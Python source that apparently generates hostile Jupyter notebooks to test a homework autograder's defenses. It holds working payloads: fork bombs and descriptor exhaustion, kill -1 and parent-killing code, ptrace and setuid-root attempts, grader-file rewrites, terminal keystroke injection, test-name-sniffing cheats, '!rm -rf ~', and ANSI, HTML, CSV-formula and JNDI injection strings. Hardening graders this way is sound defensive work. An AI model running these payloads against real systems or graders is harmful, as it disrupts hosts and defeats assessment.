    takes_its_layers_off=_wall(
        """
        import resource, struct
        class Program(ctypes.Structure):
            _fields_ = (("length", ctypes.c_ushort), ("steps", ctypes.c_char_p))
        allow = struct.pack("<HBBI", 0x06, 0, 0, 0x7FFF0000)
        through(lambda: 1 / (libc.prctl(22, 2, ctypes.byref(Program(1, allow)), 0, 0) + 1))
        through(lambda: 1 / (libc.prctl(22, 0, 0, 0, 0) + 1))
        through(lambda: 1 / (libc.prctl(24, 0, 0, 0, 0) + 1))
        through(lambda: 1 / (libc.prctl(47, 2, 1, 0, 0) + 1))
        through(lambda: 1 / (libc.unshare(0x10000000) + 1))
        through(lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (1 << 20, 1 << 20)))
        through(lambda: resource.setrlimit(resource.RLIMIT_RTTIME, (1, 1)))
        """
    ),
    system_calls_without_a_name=_wall(
        """
        for number in [*range(424, 434), 435, 437, 440, *range(442, 470), 1000, 0x40000000 | 39]:
            if number in (424, 434, 436, 439, 441, 452): continue
            ctypes.set_errno(0)
            if libc.syscall(ctypes.c_long(number), 0, 0, 0, 0, 0, 0) >= 0: FOUND.append("planted hw3-" + "breached")
        """
    ),
)
_add(
    "exhaust",
    descriptors_in_flight=_before(
        """
        import socket
        KEEP = [socket.socketpair() for _ in range(60)]
        for a, b in KEEP:
            for _ in range(4):
                socket.send_fds(a, [b"x"], [0] * 250)
        """
    ),
    descriptors_in_flight_within_descriptors=_before(
        """
        import socket
        KEEP = [socket.socketpair() for _ in range(100)]
        for (a, b), (c, d) in zip(KEEP, KEEP[1:]):
            socket.send_fds(a, [b"x"], [c.fileno(), d.fileno()] * 100)
        """
    ),
    many_spinning_processes=_before(
        """
        import os, time
        end = time.time() + 8
        for _ in range(240):
            if os.fork() == 0:
                while time.time() < end: pass
                getattr(os, "_exit")(0)
        """
    ),
    large_pipes=_before(
        """
        import fcntl, os
        KEEP = []
        for _ in range(400):
            KEEP.append(os.pipe()); fcntl.fcntl(KEEP[-1][1], 1031, 1 << 20); os.write(KEEP[-1][1], bytes(1 << 20))
        """
    ),
    linked_files_in_shared_memory=_before(
        f"""
        for number in range(30):
            with open(f"/dev/shm/{TRACE}-{{number}}", "wb") as file:
                for _ in range(10): file.write(bytes(10 << 20))
        """
    ),
    files_past_the_longest_path=_before(
        """
        import os
        here = os.getcwd()
        for _ in range(25):
            os.mkdir("d" * 200); os.chdir("d" * 200)
        with open("big", "wb") as file:
            for _ in range(150): file.write(bytes(10 << 20))
        """
    ),
    deleted_files_that_are_mapped=_before(
        """
        import ctypes, os
        libc = ctypes.CDLL(None); libc.mmap.restype = ctypes.c_void_p
        for _ in range(30):
            file = open("m", "w+b"); os.unlink("m"); file.write(bytes(45 << 20)); file.flush()
            libc.mmap(None, ctypes.c_size_t(45 << 20), 3, 1, file.fileno(), ctypes.c_long(0)); file.close()
        """
    ),
)

# -- surviving ------------------------------------------------------------------------------------------------------------

_DAEMON = """
import os, time
def daemon(seconds=25):
    if os.fork() == 0:
        try:
            os.setsid()
        except OSError:
            pass
        if os.fork() == 0:
            import signal
            for number in range(1, signal.NSIG):
                try: signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError): pass
            end = time.time() + seconds
            while time.time() < end:
                time.sleep(0.1)
        os._exit(0)
"""
_add(
    "survive",
    daemon_from_a_cell=_after(_DAEMON + "daemon()\n"),
    daemon_from_forward=_calls(
        _DAEMON
        + "\ndef answer(original, self, args, kwargs):\n    daemon(); return run(original, self, args, kwargs)\n"
    ),
    atexit_hangs=_after(
        "import atexit, time\natexit.register(time.sleep, 25)\natexit.register(lambda: print('x' * 100000))"
    ),
    thread_that_restarts_it=_after(
        """
        import os, threading, time
        def again(end=time.time() + 20):
            while time.time() < end:
                if os.fork() == 0:
                    time.sleep(0.01); os._exit(0)
                time.sleep(0.05)
        threading.Thread(target=again, daemon=True).start()
        """
    ),
    forks_that_hop=_after(
        """
        import os, time
        if os.fork() == 0:
            end = time.time() + 20
            while time.time() < end:
                if os.fork():
                    getattr(os, "_exit")(0)
            getattr(os, "_exit")(0)
        """
    ),
    exits_in_a_cell=_after("import os\nos._exit(0)"),
    exits_in_forward=_calls("def answer(original, self, args, kwargs):\n    os._exit(0)\n"),
    segfaults_in_a_cell=_after("import ctypes\nctypes.string_at(0)"),
    aborts_in_forward=_calls("def answer(original, self, args, kwargs):\n    os.abort()\n"),
    forks_in_forward_and_both_answer=_calls(
        """
        def answer(original, self, args, kwargs):
            os.fork()
            return run(original, self, args, kwargs)
        """
    ),
    quits_by_exception=_calls("def answer(original, self, args, kwargs):\n    raise SystemExit(0)\n"),
    interrupts_by_exception=_calls(
        "def answer(original, self, args, kwargs):\n    raise KeyboardInterrupt\n"
    ),
)

# -- attacking the grader or its neighbours -------------------------------------------------------------------------------

_add(
    "attack",
    kills_its_parent=_after(
        "import os, signal\nfor pid in (os.getppid(), 1):\n    try: getattr(os, 'kill')(pid, signal.SIGKILL)\n    except OSError: pass"
    ),
    kills_everyone=_after("import os, signal\ntry: getattr(os, 'kill')(-1, signal.SIGKILL)\nexcept OSError: pass"),
    kills_groups=_after(
        """
        import os, signal
        for pid in range(2, 40000):
            if pid != os.getpid():
                for kill in (os.kill, os.killpg):
                    try: kill(pid, signal.SIGKILL)
                    except OSError: pass
        """
    ),
    traces_its_parent=_after(
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        for request in (16, 0x4206):
            for pid in (os.getppid(), 1):
                if libc.ptrace(request, pid, 0, 0) == 0: raise SystemExit("hw3-" + "breached")
        """
    ),
    raw_system_calls=_after(
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        for number in (101, 310, 311, 165, 272, 308, 321, 425, 250, 438, 169, 246, 175, 298, 323, 161, 155):
            libc.syscall(ctypes.c_long(number), 0, 0, 0, 0, 0)
        """
    ),
    limits_of_its_parent=_after(
        """
        import os, resource
        for pid in (os.getppid(), 1):
            for which in (resource.RLIMIT_CPU, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE, resource.RLIMIT_DATA):
                try:
                    resource.prlimit(pid, which, (0, 0))
                except (OSError, ValueError):
                    pass
        """
    ),
    stops_its_parent=_after(
        "import os, signal\nfor pid in (os.getppid(), *range(2, 2000)):\n    try:\n        if pid != os.getpid(): getattr(os, 'kill')(pid, signal.SIGSTOP)\n    except OSError: pass"
    ),
    becomes_root=_after(
        """
        import os
        for step in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgroups([0]), lambda: os.setgid(0), lambda: os.chroot("/")):
            try:
                step(); globals()["ROOT"] = os.getuid() == 0 and bool(open("/etc/shadow").read())
            except OSError:
                pass
        if globals().get("ROOT"): raise SystemExit("hw3-" + "breached")
        """
    ),
    rewrites_the_grader=_after(
        """
        import os, sys
        for root in ("<checkout>", *sys.path):
            for folder, folders, files in os.walk(root):
                folders[:] = folders[:20]
                for name in files[:5]:
                    if name.endswith((".py", ".yaml")):
                        try:
                            with open(os.path.join(folder, name), "a") as file:
                                file.write("# hw3-hostile-trace")
                            raise SystemExit("hw3-" + "breached: wrote " + name)
                        except OSError:
                            pass
        """
    ),
    locks_and_pipes=_after(
        """
        import fcntl, os
        for path in ("/run/lock/hw3-grader-uids/60600", "/tmp/hw3-grader-uids/60600", "<checkout>/rubric.yaml"):
            try:
                fcntl.flock(os.open(path, os.O_RDWR | os.O_CREAT), fcntl.LOCK_EX | fcntl.LOCK_NB)
            except OSError:
                pass
        for name in ("../connection.json", "../k-1", "../k-2", "input.txt"):
            try:
                os.remove(name)
            except OSError:
                pass
            try:
                os.mkfifo(name)
            except OSError:
                pass
        """
    ),
    starts_programs=_after(
        """
        import os, subprocess, sys
        for command in (["/bin/sh", "-c", "id"], [sys.executable, "-c", "print(1)"], ["/usr/bin/su"], ["sudo", "-n", "id"], ["curl", "http://192.0.2.1/"]):
            try:
                print(getattr(subprocess, "run")(command, capture_output=True, timeout=5))
            except Exception as error:
                print(type(error))
        getattr(os, "system")("id"); getattr(get_ipython(), "system")("id")
        """
    ),
    abstract_sockets=_after(
        """
        import socket
        for line in range(1):
            for name in ("\\0/tmp/.X11-unix/X0", "\\0grader", "/run/dbus/system_bus_socket", "/run/systemd/private", "/var/run/docker.sock"):
                try:
                    with socket.socket(socket.AF_UNIX) as out:
                        out.settimeout(0.2); out.connect(name)
                except OSError:
                    pass
        """
    ),
    replaces_its_own_sockets=_after(
        """
        import os, stat
        for fd in range(3, 200):
            try:
                if stat.S_ISSOCK(os.fstat(fd).st_mode): os.close(fd)
            except OSError:
                pass
        """
    ),
    types_into_the_terminal=_after(
        """
        import fcntl, os
        for path in ("/dev/tty", "/dev/pts/0", "/dev/console", "/proc/self/fd/0"):
            try:
                fd = os.open(path, os.O_RDWR)
                for byte in b"echo hw3-hostile-trace\\n":
                    fcntl.ioctl(fd, 0x5412, bytes([byte]))
            except OSError:
                pass
        """
    ),
    hooks_the_import_system=_before(
        """
        import builtins, sys
        real = builtins.__import__
        class Finder:
            def find_spec(self, name, path=None, target=None):
                return None
        sys.meta_path.insert(0, Finder()); sys.path_hooks.insert(0, lambda path: (_ for _ in ()).throw(ImportError))
        builtins.__import__ = lambda name, *args, **kwargs: real(name, *args, **kwargs)
        """
    ),
    site_customisation=_after(
        """
        import os, site, sys
        for folder in [*sys.path, os.path.expanduser("~"), "/tmp", "."]:
            for name in ("sitecustomize.py", "usercustomize.py", "hw3-hostile-trace.pth", "conftest.py", ".pdbrc", "torch.py", "json.py"):
                try:
                    with open(os.path.join(folder, name), "w") as file:
                        file.write("raise SystemExit\\n")
                except OSError:
                    pass
        """
    ),
)

# -- the judge's own time, memory and exceptions ---------------------------------------------------------------------------

# A fused MultiHeadedAttention with ``spare(num_heads, n_hidden, dim)`` parameters that it never uses.
_FUSED = """
import torch
from torch import nn
class MultiHeadedAttention(nn.Module):
    def __init__(self, dim, n_hidden, num_heads):
        super().__init__()
        self.h = num_heads
        self.junk = nn.ParameterList([nn.Parameter(value) for value in spare(num_heads, n_hidden, dim)])
    def forward(self, x, attn_mask=None):
        B, T, _ = x.shape
        alphas = torch.softmax(torch.randn(self.h, 1, T, generator=torch.Generator().manual_seed(1)), -1)
        return x, alphas.expand(B, self.h, T, T)
"""
# Adds ``more()`` to the parameters of each class that students write.
_MORE = """
import torch
from torch import nn
def grown(cls):
    init = cls.__init__
    def __init__(self, *args, **kwargs):
        init(self, *args, **kwargs)
        for number, value in enumerate(more()):
            self.register_parameter(f"junk{number}", nn.Parameter(value, requires_grad=value.is_floating_point()))
    cls.__init__ = __init__
for name in ("AttentionHead", "MultiHeadedAttention", "PatchEmbed", "DialogueGPT"):
    if name in globals():
        grown(globals()[name])
"""
# Lets each stand-in that a forward meets say other sizes of itself.
_SIZES = """
def answer(original, self, args, kwargs):
    for part in self.modules():
        if hasattr(part, "settings"):
            change(part)
    return run(original, self, args, kwargs)
"""
_add(
    "exhaust",
    spare_matrices=_after("def spare(H, n, D):\n    return [torch.randn(H * n, D) for _ in range(20)]\n" + _FUSED),
    spare_matrices_and_biases=_after(
        "def spare(H, n, D):\n"
        "    return [torch.randn(H * n, D) for _ in range(60)] + [torch.randn(H * n) for _ in range(60)]\n" + _FUSED
    ),
    spare_stacks_of_heads=_after("def spare(H, n, D):\n    return [torch.randn(H, n, D) for _ in range(25)]\n" + _FUSED),
    small_parameters_without_end=_after("def more():\n    return [torch.zeros(1) for _ in range(5000)]\n" + _MORE),
    bytes_for_parameters=_after("def more():\n    return [torch.zeros(5 << 20, dtype=torch.uint8)]\n" + _MORE),
    flags_for_parameters=_after("def more():\n    return [torch.zeros(3 << 20, dtype=torch.bool)]\n" + _MORE),
    stand_ins_of_other_sizes=_calls("def change(part):\n    part.settings.update(dim=1, n_hidden=6000)\n" + _SIZES),
    stand_ins_of_no_size=_calls(
        "def change(part):\n    part.settings.update(dim=-3, n_hidden=10**30, num_heads=0, num_layers=True)\n" + _SIZES
    ),
    stand_ins_whose_sizes_are_no_numbers=_calls(
        "def change(part):\n    part.settings = {'dim': 1e9, 'n_hidden': [4], 'num_heads': 'two'}\n" + _SIZES
    ),
    many_large_returns=_calls(
        "BIG = torch.zeros(1 << 20)\ndef answer(original, self, args, kwargs):\n    return [BIG] * 12, [BIG] * 12\n"
    ),
    chain_of_functions=_after(
        "for _ in range(3):\n    loss.backward(); zz = 1\n"
        + "".join(f"def f{n}(): f{n + 1}\n" for n in range(4000)) + "f0\n" * 8000 + "f0 + zz"
    ),
    methods_of_one_name=_after(
        "".join(f"class C{n}:\n    def foo(self): self.foo()\n" for n in range(2000)) + "x.foo(1)\n" * 8000
    ),
)
_add(
    "fool",
    raises_what_the_grader_may_raise=_calls(
        """
        KINDS = [MemoryError, OSError(24, "x"), OSError(28, "x"), ImportError("x"), ConnectionResetError(), TimeoutError(), RecursionError()]
        COUNT = [0]
        def answer(original, self, args, kwargs):
            COUNT[0] += 1
            raise KINDS[COUNT[0] % len(KINDS)]
        """
    ),
    huge_axes_of_no_stride=_changed("change = lambda tensor: torch.zeros(1).expand(*[2] * 20, 3)"),
    parameters_reported_that_are_none=_after(
        """
        import torch
        for kind in object.__subclasses__():
            if hasattr(kind, "op_load") and hasattr(kind, "op_parameters"):
                kind.op_parameters = lambda self, target: {f"p{n}": torch.randn(4, 4) for n in range(6)}
                kind.op_load = lambda self, target, weights: None
                kind.op_registered = lambda self, target: list(range(8))
        """
    ),
    stand_ins_reported_that_are_none=_after(
        """
        for kind in object.__subclasses__():
            if hasattr(kind, "op_standins"):
                sizes = dict(dim=6, n_hidden=4, num_heads=2, attn_dim=3, mlp_dim=5, num_layers=2)
                kind.op_standins = lambda self: [{"class": "AttentionHead", **sizes}] * 2
                kind.op_calls = lambda self: []
        """
    ),
    stand_ins_denied=_after(
        """
        for kind in object.__subclasses__():
            if hasattr(kind, "op_standins"):
                kind.op_standins = kind.op_calls = kind.op_registered = lambda self, *args: []
        """
    ),
    six_axes=_calls(
        "def answer(original, self, args, kwargs):\n    odd = torch.full((2,) * 6, float('nan'))\n    return odd, odd\n"
    ),
    eight_axes_beside_the_right_answer=_changed("change = lambda tensor: tensor.expand((2,) * (8 - tensor.dim()) + tensor.shape)"),
    no_entries_along_a_huge_axis=_changed("change = lambda tensor: torch.empty(0, 1 << 40)"),
    numbers_of_many_digits=_calls("def answer(original, self, args, kwargs):\n    return 10**4000, [-(10**18)] * 3\n"),
    input_resized_in_place=_calls(
        """
        def answer(original, self, args, kwargs):
            result = run(original, self, args, kwargs)
            for value in (*args, *kwargs.values()):
                if isinstance(value, torch.Tensor):
                    value.data = torch.zeros((2,) * 6)
            return result
        """
    ),
    answers_by_the_names_of_properties=_calls(
        """
        import gc
        def judged():
            frame = sys._getframe()
            while frame is not None:
                for value in frame.f_locals.values():
                    if isinstance(value, str) and "test_" in value:
                        return value
                frame = frame.f_back
            return next((text for text in gc.get_objects() if isinstance(text, str) and text.startswith("test_")), "")
        def answer(original, self, args, kwargs):
            name = judged()
            if "mask" in name or "gradient" in name:
                return run(original, self, args, kwargs)
            return mapped(lambda tensor: torch.zeros_like(tensor), run(original, self, args, kwargs))
        """
    ),
    answers_by_whether_there_is_a_mask=_calls(
        """
        def answer(original, self, args, kwargs):
            result = run(original, self, args, kwargs)
            masked = any(value is not None for value in [*args[1:], *kwargs.values()])
            return mapped(lambda tensor: tensor * 0 + 1.0 / tensor.shape[-1] if tensor.dim() and tensor.is_floating_point() else tensor, result) if masked else result
        """
    ),
    answers_by_the_number_of_calls=_calls(
        """
        COUNT = [0]
        def answer(original, self, args, kwargs):
            COUNT[0] += 1
            result = run(original, self, args, kwargs)
            return result if COUNT[0] % 3 == 0 else mapped(lambda tensor: tensor.detach(), result)
        """
    ),
)

# -- malformed files ------------------------------------------------------------------------------------------------------


def _file(change: Callable[[Notebook], Any]) -> Callable[[Notebook], bytes]:
    def make(base: Notebook) -> bytes:
        made = copy.deepcopy(base)
        changed = change(made)
        return changed if isinstance(changed, bytes) else _bytes(made if changed is None else changed)

    return make


def _set(**fields: Any) -> Callable[[Notebook], bytes]:
    return _file(lambda made: made.update(fields))


def _each(change: Callable[[dict[str, Any]], Any]) -> Callable[[Notebook], bytes]:
    def every(made: Notebook) -> None:
        for cell in made["cells"]:
            change(cell)

    return _file(every)


_EVIL_SPEC = {
    "kernelspec": {"name": "../../../bin/sh", "display_name": "\x1b[2J", "language": "python"},
    "language_info": {"name": "python", "version": "9" * 10000},
}
_add(
    "malformed",
    not_json=_file(lambda made: b"This is my homework.\n"),
    empty_file=_file(lambda made: b""),
    only_spaces=_file(lambda made: b" \n" * 100000),
    cut_off=_file(lambda made: _bytes(made)[: len(_bytes(made)) // 2]),
    nested_deeply=_file(lambda made: b"[" * 200000 + b"]" * 200000),
    nested_deeply_within=_file(
        lambda made: b'{"deep": ' + b"[" * 100_000 + b"]" * 100_000 + b", " + _bytes(made)[1:]
    ),
    no_format_number=_file(lambda made: {"cells": made["cells"]}),
    wrong_format_number=_set(nbformat="four", nbformat_minor={"a": []}),
    old_format=_file(
        lambda made: {
            "nbformat": 3,
            "nbformat_minor": 0,
            "metadata": {},
            "worksheets": [
                {
                    "cells": [
                        {**{k: v for k, v in cell.items() if k != "source"}, "input": cell["source"]}
                        if cell["cell_type"] == "code"
                        else cell
                        for cell in made["cells"]
                    ]
                }
            ],
        }
    ),
    byte_order_mark=_file(lambda made: b"\xef\xbb\xbf" + _bytes(made)),
    sixteen_bits=_file(lambda made: json.dumps(made).encode("utf-16")),
    latin_bytes=_file(lambda made: _bytes(made).replace(b'"metadata"', b'"m\xe9t\xff": 1, "metadata"', 1)),
    carriage_returns=_each(lambda cell: cell.update(source="".join(cell["source"]).replace("\n", "\r\n"))),
    surrogates=_file(lambda made: _bytes(made).replace(b"import", b"'\\ud800'\\nimport", 1)),
    nulls=_each(lambda cell: cell.update(source="\x00" + "".join(cell["source"]))),
    duplicate_ids=_each(lambda cell: cell.update(id="same")),
    evil_ids=_each(lambda cell: cell.update(id="../../" * 50 + "\x1b[31m")),
    sources_are_numbers=_each(lambda cell: cell.update(source=7)),
    sources_are_odd_lists=_each(lambda cell: cell.update(source=[None, {"a": 1}, "".join(cell["source"])])),
    cells_are_odd=_file(lambda made: made["cells"].extend([None, 3, "x", [], {}, {"cell_type": None}])),
    many_cells=_file(lambda made: made["cells"].extend([_cell("pass")] * 3000)),
    outputs_that_name_accuracies_without_numbers=_each(
        lambda cell: cell.update(
            outputs=[{"output_type": "stream", "name": "stdout", "text": "accuracy " * 100_000}] * 3
        )
    ),
    huge_outputs=_each(
        lambda cell: cell.update(
            outputs=[{"output_type": "stream", "name": "stdout", "text": "o" * 200_000}] * 15
        )
    ),
    odd_outputs=_each(
        lambda cell: cell.update(
            outputs=[None, 3, {"output_type": 7}, {"output_type": "display_data", "data": {"image/png": [1]}}]
        )
    ),
    huge_markdown=_file(
        lambda made: made["cells"].append(
            {"cell_type": "markdown", "metadata": {}, "source": "# " + "m" * 900_000}
        )
    ),
    huge_source=_after("x = [" + "1, " * 50_000 + "]"),
    too_much_source=_after("a = b\n" * 60_000),
    costly_source=_after("(" * 90 + "1" + ")" * 90 + "\n" + "def f(a): return a + a\n" * 6_000),
    kernelspec=_set(metadata=_EVIL_SPEC),
    other_language=_set(
        metadata={"language_info": {"name": "R"}, "kernelspec": {"name": "ir", "language": "R"}}
    ),
    skip_execution_tags=_each(
        lambda cell: cell.update(metadata={"tags": ["skip-execution", "raises-exception", 3]})
    ),
    roles_claimed=_each(
        lambda cell: cell.update(metadata={"hw3": {"role": "provided", "part": "2a"}, "tags": ["hw3-answer"]})
    ),
    metadata_is_odd=_each(lambda cell: cell.update(metadata=["x", 3])),
    huge_numbers=_file(
        lambda made: _bytes(made).replace(b'"execution_count": null', b'"execution_count": ' + b"9" * 5000)
    ),
    repeated_keys=_file(lambda made: _bytes(made).replace(b'{"cells"', b'{"cells": [], "cells"', 1)),
    syntax_error_first=_before("def broken(:\n  )"),
    unclosed_string=_after("x = '''" + "a" * 1000),
    magics=_after("%load_ext autoreload\n!rm -rf ~\n%%bash\nsleep 100"),
    cell_of_other_language=_after("%%javascript\nalert(1)"),
)

# -- attacking those who read the report ----------------------------------------------------------------------------------

ESCAPES = '\x1b[2J\x1b]0;owned\x07\x1b[31m\x9b31m\u202egnp.exe\u2066\u200b\r\x08\x00<script>alert(1)</script>=HYPERLINK("x")'


def _raised(text: str) -> Callable[[Notebook], bytes]:
    return _calls(f"def answer(original, self, args, kwargs):\n    raise ValueError({text!r})\n")


_add(
    "report",
    escapes_in_messages=_raised(ESCAPES),
    escapes_in_cell_errors=_after(f"raise ValueError({ESCAPES!r})"),
    escapes_in_class_names=_after(f"raise type({ESCAPES!r}.replace(chr(0), ''), (Exception,), {{}})('x')"),
    escapes_in_returned_types=_calls(
        f"Odd = type({ESCAPES!r}.replace(chr(0), ''), (), {{}})\ndef answer(original, self, args, kwargs):\n    return Odd(), Odd()\n"
    ),
    escapes_in_source=_calls(
        "def answer(original, self, args, kwargs):\n    raise ValueError  # \x1b[2J \u202e <img src=x onerror=alert(1)>\n"
    ),
    escapes_in_returned_text=_after(
        f"if 'MyTokenizer' in globals():\n    MyTokenizer.decode = lambda self, toks: {ESCAPES!r}\n"
    ),
    escapes_in_metadata=_set(
        metadata={"kernelspec": {"name": ESCAPES, "language": ESCAPES}, "title": ESCAPES}
    ),
    escapes_in_outputs=_each(
        lambda cell: cell.update(
            outputs=[
                {"output_type": "stream", "name": "stdout", "text": ESCAPES + " accuracy 0.99 " + ESCAPES}
            ]
        )
    ),
    formulas=_raised("=cmd|' /C calc'!A0\n+1+1\n-2\n@SUM(A1)\n\t=1"),
    markup=_raised(
        "[bold red]x[/] [link=file:///etc/passwd]y[/link] ${jndi:x} {{7*7}} %s %(x)s {0.__class__}"
    ),
    html_outputs=_after(
        """
        from IPython.display import HTML, Javascript, display
        display(Javascript("alert(document.cookie)"), HTML("<script>alert(1)</script>"))
        """
    ),
    combining_marks=_raised("e" + "\u0301" * 5000 + "\u202e" * 500),
    missing_module_with_a_name=_after("import \u212bbad\nraise ImportError('\x1b[2J')"),
    lookalike_status=_raised("✓ passed 18 / 18\n\n2a  AttentionHead  4 / 4\n"),
    images_that_are_none=_each(
        lambda cell: cell.update(
            outputs=[
                {
                    "output_type": "display_data",
                    "metadata": {},
                    "data": {
                        "image/png": "PHN2Zy8+",
                        "text/html": ESCAPES,
                        "image/svg+xml": "<svg onload=alert(1)>",
                    },
                }
            ]
        )
    ),
)


def hostile(name: str, base: Notebook) -> bytes:
    """The bytes of the hostile notebook of a kind, made from a base notebook (which is left as it is)."""
    return KINDS[name].make(base)
